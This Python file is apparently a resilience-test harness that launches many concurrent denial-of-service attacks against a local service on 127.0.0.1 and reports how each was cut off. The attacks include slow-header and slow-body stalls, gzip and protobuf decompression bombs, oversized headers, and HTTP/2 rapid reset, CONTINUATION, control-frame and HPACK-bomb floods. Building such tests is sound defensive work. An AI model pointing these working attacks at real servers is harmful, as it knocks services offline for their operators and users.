"""The attacks of hostile.py: many connections of every kind at once, in one process.

The argument is JSON: port, authority, certificates (stems of identities that the node lists), seconds, connections,
only (one attack, or null). Prints what each kind of attack came to, as JSON:

    connected   connections that were made, for the attacks with a certificate: handshakes
    cut         ended by the node while the attack was going on
    open        not ended when the time of the attacks was over, and no older than AT_ONCE_SECONDS then
    answered    answers that were read, errors included
"""

import asyncio
import collections
import gzip
import json
import random
import ssl
import struct
import sys
import time

import hpack

DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BOUNDARY = "/bsfg.v1.BoundaryService/"
MIB = 1 << 20
LATE_SECONDS = 60
# Who sends what only an attack sends has no connection any more after that, on a machine that is busy with it.
AT_ONCE_SECONDS = 8
BOMB = gzip.compress(b"[" * (512 * MIB // 8), 9)  # 64 MiB in about as many KiB
# Who does not read is not to be read for by the system either.
RECEIVE_BUFFER = 4 << 10


class Attack:
    """One kind. `run` does what it does on one connection until it is cut or has done enough."""

    def __init__(self, run, share, protocol="http/1.1", is_cut=True, has_certificate=True):
        self.run, self.share, self.protocol = run, share, protocol
        self.is_cut, self.has_certificate = is_cut, has_certificate


class Connection:
    """A connection and whose it is."""

    def __init__(self, reader, writer, number, outcome):
        self.reader, self.writer, self.number, self.outcome = reader, writer, number, outcome
        self.consumer = f"reader-of-hostile-{number}"

    async def send(self, data):
        self.writer.write(data)
        await self.writer.drain()

    async def drip(self, data, seconds, count=1):
        for start in range(0, len(data), count):
            await self.send(data[start:start + count])
            await asyncio.sleep(seconds)

    async def until_cut(self, seconds=40):
        """Reads what comes; ends when the node does."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            data = await asyncio.wait_for(self.reader.read(1 << 16), deadline - time.monotonic())
            if not data:
                raise EOFError
            self.outcome["answered"] += data.count(b"HTTP/1.1 ")


def head(path, *headers, body=0):
    lines = [f"POST {path} HTTP/1.1", "Host: localhost", "Content-Type: application/json",
             f"Content-Length: {body}", *headers]
    return "\r\n".join(lines).encode() + b"\r\n\r\n"


# Without a certificate

async def silent(connection):
    await connection.until_cut()


async def slow_handshake(connection):
    await connection.drip(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500), 0.5)


async def garbage(connection):
    await connection.send(random.randbytes(64 << 10))
    await connection.until_cut()


# HTTP/1.1

async def slow_head(connection):
    await connection.drip(head(BOUNDARY + "AppendFact", "X-Slow: " + "y" * 4_000), 0.5)


async def slow_body(connection):
    await connection.send(head(BOUNDARY + "AppendFact", body=MIB))
    await connection.drip(b"{" * MIB, 0.5, 16)


async def half_body(connection):
    """Bodies that never end, up to the budget."""
    await connection.send(head("/bsfg.v1.IngestService/AppendFacts", "Connect-Timeout-Ms: 60000", body=12 * MIB))
    piece = b" " * (64 << 10)
    for _ in range(6 * MIB // len(piece)):
        await connection.send(piece)
    await connection.until_cut()


async def whole_body(connection):
    """As much as a body may be, to be read to its end before it is refused."""
    opening = b'{"facts": [' + b'{"fact": {"object": [0]}},' * 100_000
    body = opening + b" " * (11 * MIB - len(opening))
    await connection.send(head("/bsfg.v1.IngestService/AppendFacts", body=len(body)) + body)
    await connection.until_cut(10)


async def gzip_bomb(connection):
    for _ in range(8):
        await connection.send(
            head(BOUNDARY + "AppendFact", "Content-Encoding: gzip", body=len(BOMB)) + BOMB)
    await connection.until_cut()


def element(number, content):
    """A field of protocol buffers with so many bytes."""
    length, rest = b"", len(content)
    while rest > 0x7F:
        length += bytes([rest & 0x7F | 0x80])
        rest >>= 7
    return bytes([number << 3 | 2]) + length + bytes([rest]) + content


async def batch_of_nothing(connection):
    """As many facts as a batch may have, each with a list of nothing: kilobytes on the way."""
    nothing = element(2, element(1, element(7, b"") * 65) + element(2, element(5, b"") * 65))
    body = gzip.compress(nothing * 10_000, 9)
    request = head("/bsfg.v1.IngestService/AppendFacts", "Content-Encoding: gzip", body=len(body)).replace(
        b"application/json", b"application/proto") + body
    for _ in range(4):
        await connection.send(request)
    await connection.until_cut()


GROWN = gzip.compress(b'{"fact": {"object": [' + b"1e20," * (12 * MIB // 5 - 8) + b"1]}}", 9)


async def grown_object(connection):
    """Five times as long in canonical form."""
    for _ in range(4):
        await connection.send(
            head(BOUNDARY + "AppendFact", "Content-Encoding: gzip", body=len(GROWN)) + GROWN)
    await connection.until_cut()


async def large_head(connection):
    await connection.send(head("/health", *(f"X-{number}: " + "y" * 15_000 for number in range(60))))
    await connection.until_cut()


async def never_reading(connection):
    """Pages of 6 MiB that nobody takes."""
    for encoding in ("json", "proto"):
        if encoding == "json":
            body = json.dumps({"consumer_name": connection.consumer, "max_bytes": 6 * MIB}).encode()
            request = head(BOUNDARY + "FetchFacts", body=len(body)) + body
        else:
            body = fetch_request(connection.consumer)
            request = head(BOUNDARY + "FetchFacts", body=len(body)).replace(
                b"application/json", b"application/proto") + body
        await connection.send(request)
    await asyncio.sleep(20)


def fetch_request(consumer):
    name = consumer.encode()
    maximum, value = b"", 6 * MIB
    while value:
        maximum += bytes([value & 0x7F | (0x80 if value > 0x7F else 0)])
        value >>= 7
    return bytes([1 << 3 | 2, len(name)]) + name + bytes([3 << 3]) + maximum


# HTTP/2

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block(path, *fields):
    """The head of a call, the same for every stream."""
    fields = [(":method", "POST"), (":scheme", "https"), (":authority", "localhost"), (":path", path),
              ("content-type", "application/json"), *fields]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields])


def greeting(window=None):
    payload = b"" if window is None else struct.pack(">HI", WINDOW_SIZE, window)
    return PREFACE + frame(SETTINGS, 0, 0, payload)


async def rapid_reset(connection):
    fields = block(BOUNDARY + "FetchFacts")
    await connection.send(greeting())
    for start in range(1, 1 << 20, 200):
        await connection.send(b"".join(
            frame(HEADERS, END_HEADERS, stream, fields) + frame(RESET, 0, stream, struct.pack(">I", 8))
            for stream in range(start, start + 200, 2)))
        await asyncio.sleep(0.01)


async def continuations(connection):
    await connection.send(greeting() + frame(HEADERS, 0, 1, block("/health")))
    piece = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-more", "y" * 8_000)])
    while True:
        await connection.send(frame(CONTINUATION, 0, 1, piece))
        await asyncio.sleep(0.01)


async def control_frames(connection):
    await connection.send(greeting())
    flood = (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)) * 200
    while True:
        await connection.send(flood)
        await asyncio.sleep(0.05)


async def bombs_in_heads(connection):
    """One large field in the table, referred to over and over."""
    encoder = hpack.Encoder()
    first = encoder.encode([
        (":method", "POST"), (":scheme", "https"), (":authority", "x"), (":path", "/health"), ("x-bomb", "y" * 3_900)])
    again = encoder.encode([(":method", "POST"), (":scheme", "https"), (":authority", "x"), (":path", "/health")])
    reference = encoder.encode([("x-bomb", "y" * 3_900)])
    await connection.send(greeting() + frame(HEADERS, END_HEADERS, 1, first))
    for start in range(3, 1 << 20, 40):
        await connection.send(b"".join(
            frame(HEADERS, END_HEADERS, stream, again + reference * 2_000)
            for stream in range(start, start + 40, 2)))
        await asyncio.sleep(0.02)


async def never_reading_streams(connection):
    """A page on every stream, and not a byte of window for any."""
    body = json.dumps({"consumer_name": connection.consumer, "max_bytes": 6 * MIB}).encode()
    fields = block(BOUNDARY + "FetchFacts")
    await connection.send(greeting(window=0))
    await connection.send(b"".join(
        frame(HEADERS, END_HEADERS, stream, fields) + frame(DATA, END_STREAM, stream, body)
        for stream in range(1, 256, 2)))
    # Pings keep it from being idle.
    for _ in range(40):
        await connection.send(frame(PING, 0, 0, bytes(8)))
        await asyncio.sleep(1)


async def refused_streams(connection):
    """Never says that it knows how many streams it may have, and begins more and more of them."""
    fields = block(BOUNDARY + "AppendFact")
    await connection.send(greeting() + b"".join(
        frame(HEADERS, END_HEADERS, stream, fields) for stream in range(1, 256, 2)))
    for start in range(257, 1 << 24, 2_000):
        await connection.send(b"".join(
            frame(HEADERS, END_HEADERS, stream) for stream in range(start, start + 2_000, 2)))
        await asyncio.sleep(0.01)


async def half_streams(connection):
    """A large head and half a body on every stream."""
    fields = block(BOUNDARY + "AppendFact", *((f"x-{number}", "y" * 7_000) for number in range(4)))
    await connection.send(greeting())
    for stream in range(1, 256, 2):
        await connection.send(
            frame(HEADERS, 0, stream, fields[:16_384]) + frame(CONTINUATION, END_HEADERS, stream, fields[16_384:])
            + frame(DATA, 0, stream, b" " * 8_000))
    await connection.until_cut()


ATTACKS = {
    "silent": Attack(silent, 4, None, has_certificate=False),
    "slow_handshake": Attack(slow_handshake, 8, None, has_certificate=False),
    "garbage": Attack(garbage, 4, None, has_certificate=False),
    "slow_head": Attack(slow_head, 8),
    "slow_body": Attack(slow_body, 8),
    "half_body": Attack(half_body, 8),
    "whole_body": Attack(whole_body, 2),
    "gzip_bomb": Attack(gzip_bomb, 6),
    "batch_of_nothing": Attack(batch_of_nothing, 6),
    "grown_object": Attack(grown_object, 6),
    "large_head": Attack(large_head, 4),
    "never_reading": Attack(never_reading, 12, is_cut=False),
    "rapid_reset": Attack(rapid_reset, 4, "h2"),
    "continuations": Attack(continuations, 4, "h2"),
    "control_frames": Attack(control_frames, 4, "h2"),
    "bombs_in_heads": Attack(bombs_in_heads, 4, "h2"),
    "never_reading_streams": Attack(never_reading_streams, 12, "h2", is_cut=False),
    "refused_streams": Attack(refused_streams, 4, "h2"),
    "half_streams": Attack(half_streams, 8, "h2", is_cut=False),
}


class Attackers:
    def __init__(self, order):
        self.order = order
        self.end = time.monotonic() + order["seconds"]
        self.outcomes = collections.defaultdict(lambda: {"connected": 0, "cut": 0, "open": 0, "answered": 0})
        self.contexts = {}

    def context(self, number, protocol):
        key = number, protocol
        if key not in self.contexts:
            context = ssl.create_default_context(cafile=self.order["authority"])
            stem = self.order["certificates"][number]
            context.load_cert_chain(stem + ".crt", stem + ".key")
            context.set_alpn_protocols([protocol])
            self.contexts[key] = context
        return self.contexts[key]

    async def attacker(self, name, index):
        """Connects again and again, from an address of its own or a few others'."""
        attack, outcome = ATTACKS[name], self.outcomes[name]
        number = index % len(self.order["certificates"])
        source = (f"127.0.{1 + index // 200 % 200}.{1 + index % 200}", 0)
        await asyncio.sleep(random.uniform(0, 2))
        # Where a slow machine got no connection of this kind in time, it goes on for one.
        while time.monotonic() < self.end or (
                not outcome["connected"] and time.monotonic() < self.end + LATE_SECONDS):
            writer, began = None, time.monotonic()
            try:
                options = {"ssl": self.context(number, attack.protocol)} if attack.has_certificate else {}
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(
                        "127.0.0.1", self.order["port"], local_addr=source, limit=RECEIVE_BUFFER, **options),
                    30)
                outcome["connected"] += 1
                began = time.monotonic()
                left = max(1, self.end - time.monotonic())
                await asyncio.wait_for(attack.run(Connection(reader, writer, number, outcome)), left)
            except asyncio.TimeoutError:
                is_young = self.end - began < AT_ONCE_SECONDS
                outcome["open"] += writer is not None and time.monotonic() >= self.end and is_young
            except (OSError, EOFError, ssl.SSLError):
                outcome["cut"] += writer is not None
            finally:
                if writer:
                    writer.transport.abort()
            await asyncio.sleep(random.uniform(0.5, 2.5))

    async def run(self):
        names = [name for name in ATTACKS if self.order["only"] in (None, name)]
        shares = [name for name in names for _ in range(ATTACKS[name].share)]
        await asyncio.gather(*(
            self.attacker(shares[index % len(shares)], index) for index in range(self.order["connections"])))
        for name in names:
            self.outcomes[name]["is_cut"] = ATTACKS[name].is_cut
        return self.outcomes


if __name__ == "__main__":
    loop = asyncio.new_event_loop()
    # What a cut connection leaves behind in its transport is no news.
    loop.set_exception_handler(lambda loop, context: None)
    print(json.dumps(loop.run_until_complete(Attackers(json.loads(sys.argv[1])).run())))
